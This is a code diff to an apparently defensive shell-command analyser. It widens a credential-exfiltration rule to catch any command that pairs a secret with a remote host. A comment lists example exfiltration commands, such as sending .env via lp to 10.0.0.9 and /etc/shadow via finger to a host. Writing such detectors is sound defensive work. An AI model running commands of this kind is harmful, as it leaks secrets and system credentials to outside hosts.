@@ -5,6 +5,7 @@ import {
   isSink,
   mentionsSecret,
   NET_TOOLS,
+  namesRemoteHost,
   readsSecret,
 } from "../facts.js";
 
@@ -44,7 +45,9 @@ function remote(args: string[]): boolean {
  */
 export function credentialExfil(a: Analysis, hit: Hit): boolean {
   for (const c of a.cmds) {
-    if (!isSink(c)) continue;
+    // Any program handed a secret and a remote host sends one to the other (`lp .env -h
+    // 10.0.0.9`, `finger "$(cat /etc/shadow)"@host`, a perl one-liner opening a socket).
+    if (!isSink(c) && !namesRemoteHost(c)) continue;
     const secret = mentionsSecret(c.sc.raw) ?? readsSecret(c);
     if (secret) return hit("shell.credential-exfil", c.sc.raw);
   }
